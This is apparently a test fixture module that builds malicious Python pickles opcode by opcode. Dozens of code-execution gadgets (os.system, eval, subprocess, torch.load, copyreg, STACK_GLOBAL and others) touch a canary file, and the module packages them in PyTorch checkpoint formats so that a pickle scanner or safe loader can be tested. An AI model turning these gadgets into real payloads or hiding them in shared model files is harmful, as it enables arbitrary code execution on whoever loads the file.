"""Pickles that run code when they are loaded, each in its own way, and the files that carry them.

They are written opcode by opcode: no class of this module is needed to load them.
"""

import io
import struct
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path

from tests.reliability.canaries import CANARY

Payload = bytes


def name(module: str, attribute: str) -> Payload:
    return f"c{module}\n{attribute}\n".encode()


def text(value: str) -> Payload:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def raw(value: bytes) -> Payload:
    return b"B" + struct.pack("<I", len(value)) + value


def row(*items: Payload) -> Payload:
    return b"(" + b"".join(items) + b"t"


def call(function: Payload, *arguments: Payload) -> Payload:
    return function + row(*arguments) + b"R"


def attribute(of: Payload, what: str) -> Payload:
    return call(name("builtins", "getattr"), of, text(what))


def module(what: str) -> Payload:
    return call(name("builtins", "__import__"), text(what))


def gadgets(top: Path) -> dict[str, Payload]:
    """What runs, by name: each would make the canary in ``top``."""
    canary, script = str(top / CANARY), str(top / "here" / f"{CANARY}_code.py")
    shell, code = f"touch {canary}", f"open({canary!r}, 'w')"
    system, touch = name("os", "system"), call(name("os", "system"), text(shell))
    inner = b"\x80\x02" + touch + b"."
    program = b"(" + text("touch") + text(canary) + b"l"
    state = b"}" + text("__setstate__") + system + b"s"
    loader = call(name("importlib.machinery", "SourceFileLoader"), text("x"), text(script))
    mapped, mapping = name("numpy", "memmap"), (text(canary), text("uint8"), text("w+"), b"K\x00", b"K\x01")
    legacy = b"".join(legacy_parts(touch))
    return {
        "os.system": touch,
        "posix.system": call(name("posix", "system"), text(shell)),
        "subprocess.Popen": call(name("subprocess", "Popen"), program),
        "subprocess.getoutput": call(name("subprocess", "getoutput"), text(shell)),
        "subprocess.check_output": call(name("subprocess", "check_output"), program),
        "builtins.eval": call(name("builtins", "eval"), text(code)),
        "builtins.exec": call(name("builtins", "exec"), text(code)),
        "builtins.open": call(name("builtins", "open"), text(canary), text("w")),
        "python2.eval": call(name("__builtin__", "eval"), text(code)),
        "python2.execfile": call(name("__builtin__", "execfile"), text(script)),
        "builtins.getattr": call(attribute(module("os"), "system"), text(shell)),
        "io.open": call(name("io", "open"), text(canary), text("w")),
        "codecs.open": call(name("codecs", "open"), text(canary), text("w")),
        "runpy.run_path": call(name("runpy", "run_path"), text(script)),
        "importlib": call(
            attribute(call(name("importlib", "import_module"), text("os")), "system"), text(shell)
        ),
        "importlib.loader": call(attribute(loader, "load_module"), text("x")),
        "torch.hub": call(name("torch.hub", "_load_local"), text(str(top / "here")), text(CANARY)),
        "torch.load": call(name("torch", "load"), text(str(top / "here" / f"{CANARY}_inner.pt"))),
        "torch.storage._load_from_bytes": call(name("torch.storage", "_load_from_bytes"), raw(legacy)),
        "torch.from_file": call(
            name("torch", "UntypedStorage.from_file"), text(canary), b"\x88", b"K\x01"
        ),
        "torch._rebuild": call(
            name("torch._utils", "_rebuild_tensor_v2"), touch, b"K\x00", row(), row(), b"\x89", b"}"
        ),
        "numpy.runstring": call(name("numpy.testing._private.utils", "runstring"), text(code), b"}"),
        "numpy.run_command": call(name("numpy.f2py.diagnose", "run_command"), text(shell)),
        "numpy.memmap": call(mapped, *mapping),
        "numpy.scalar": call(
            name("numpy.core.multiarray", "scalar"), call(name("numpy", "dtype"), text("O8")), touch
        ),
        "numpy.load": call(name("numpy", "load"), text(str(top / "here" / f"{CANARY}.npy")), b"N", b"\x88"),
        "functools.partial": call(call(name("functools", "partial"), system, text(shell))),
        "functools.reduce": call(
            name("functools", "reduce"), name("operator", "call"), row(text(shell)), system
        ),
        "operator.attrgetter": call(
            call(call(name("operator", "attrgetter"), text("system")), module("os")), text(shell)
        ),
        "operator.methodcaller": call(
            call(name("operator", "methodcaller"), text("system"), text(shell)), module("os")
        ),
        "operator.call": call(name("operator", "call"), system, text(shell)),
        "map": call(name("builtins", "list"), call(name("builtins", "map"), system, row(text(shell)))),
        "webbrowser": call(name("webbrowser", "open"), text(f"file://{canary}")),
        "logging": call(name("logging", "FileHandler"), text(canary)),
        "sqlite3": call(name("sqlite3", "connect"), text(canary)),
        "shutil.copyfile": call(name("shutil", "copyfile"), text(script), text(canary)),
        "pathlib.touch": call(attribute(call(name("pathlib", "Path"), text(canary)), "touch")),
        "ctypes.CDLL": call(attribute(call(name("ctypes", "CDLL"), b"N"), "system"), raw(shell.encode())),
        "socket": call(name("socket", "create_connection"), row(text("127.0.0.1"), b"K\x09")),
        "setstate-namespace": call(name("argparse", "Namespace")) + state + b"b" + text(shell) + b"b",
        "setstate-simple": call(name("types", "SimpleNamespace")) + state + b"b" + text(shell) + b"b",
        "copyreg.newobj": call(name("copyreg", "__newobj__"), mapped, *mapping),
        "copyreg.reconstructor": call(
            name("copyreg", "_reconstructor"), name("builtins", "object"), name("builtins", "object"), touch
        ),
        "NEWOBJ": mapped + row(*mapping) + b"\x81",
        "INST": b"(" + text(shell) + b"ios\nsystem\n",
        "OBJ": b"(" + system + text(shell) + b"o",
        "EXT": call(name("copyreg", "add_extension"), text("os"), text("system"), b"M\x39\x30")
        + b"0\x83\x39\x30" + row(text(shell)) + b"R",
        "STACK_GLOBAL": call(text("os") + text("system") + b"\x93", text(shell)),
        "STACK_GLOBAL-computed": call(
            text("os") + call(name("operator", "concat"), text("sys"), text("tem")) + b"\x93", text(shell)
        ),
        "STACK_GLOBAL-dotted": call(text("torch.serialization") + text("os.system") + b"\x93", text(shell)),
        "persistent-id": row(text("storage"), touch, text("0"), text("cpu"), b"K\x01") + b"Q",
        "nested": call(name("pickle", "loads"), raw(inner)),
        "nested-c": call(name("_pickle", "loads"), raw(inner)),
        "dictionary-key": b"}" + touch + b"K\x01s",
        "memo": touch + b"q\x000h\x00",
        "appended": b"]" + touch + b"a",
        "list-subclass": call(name("collections", "deque")) + touch + b"a",
    }  # fmt: skip


HEADS = {number: b"\x80" + bytes([number]) for number in range(1, 6)} | {0: b""}


def pickles(top: Path) -> dict[str, Payload]:
    """Whole pickles: gadgets in a dictionary as checkpoints have it, and odd places for one."""
    found = {}
    for key, gadget in gadgets(top).items():
        head = HEADS[4 if "STACK" in key or "from_file" in key else 2]
        found[key] = head + b"}" + text("state_dict") + gadget + b"s."
    touch = gadgets(top)["os.system"]
    good = b"}" + text("a") + b"K\x01s."
    for number, head in HEADS.items():
        found[f"protocol-{number}"] = head + touch + b"."
    found["after-stop"] = HEADS[2] + good + HEADS[2] + touch + b"."
    found["before-a-broken-tail"] = HEADS[2] + touch + b"\xff\xff\xff"
    found["without-stop"] = HEADS[2] + touch
    shell = f"touch {top / CANARY}"
    found["protocol-0-text"] = f"cos\nsystem\n(S'{shell}'\ntR.".encode()
    found["framed"] = HEADS[4] + b"\x95" + struct.pack("<Q", len(touch) + 1) + touch + b"."
    return found


def legacy_parts(gadget: Payload) -> list[Payload]:
    """A file of torch before zip: a number, a version, facts, the object, keys of storages."""
    number = b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19."
    facts = b"\x80\x02}" + text("little_endian") + b"\x88s" + text("protocol_version") + b"M\xe9\x03s."
    return [number, b"\x80\x02M\xe9\x03.", facts, b"\x80\x02" + gadget + b".", b"\x80\x02]."]


def as_zip(data: Payload, top: Path) -> bytes:
    return _zip({"archive/data.pkl": data, "archive/byteorder": b"little", "archive/version": b"3\n"})


def as_script(data: Payload, top: Path) -> bytes:
    code = f"open({str(top / CANARY)!r}, 'w')\n".encode()
    return _zip(
        {
            "archive/data.pkl": data,
            "archive/code/__torch__.py": code,
            "archive/constants.pkl": data,
            "archive/version": b"3\n",
        }
    )


def as_legacy(data: Payload, top: Path) -> bytes:
    parts = legacy_parts(b"N")
    return b"".join([*parts[:3], data, *parts[4:]])


def as_tar(data: Payload, top: Path) -> bytes:
    """As torch 0.1 wrote them."""
    return tar({"sys_info": data, "pickle": data, "storages": data, "tensors": data})


def as_raw(data: Payload, top: Path) -> bytes:
    return data


WRAPPERS: dict[str, tuple[str, Callable[[Payload, Path], bytes]]] = {
    "zip": ("model.pt", as_zip),
    "legacy": ("model.pth", as_legacy),
    "raw": ("model.bin", as_raw),
    "pkl": ("model.pkl", as_raw),
    "tar": ("model.ckpt", as_tar),
    "script": ("script.pt", as_script),
}
"""What a pickle lies in: the file's name, and how it is made."""


def tar(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for key, data in members.items():
            info = tarfile.TarInfo(key)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for key, data in members.items():
            archive.writestr(key, data)
    return out.getvalue()


def npy(descr: str, data: bytes) -> bytes:
    """An array file whose header says ``descr``."""
    header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': (1,), }}".encode()
    header += b" " * (63 - (len(header) + 10) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + data
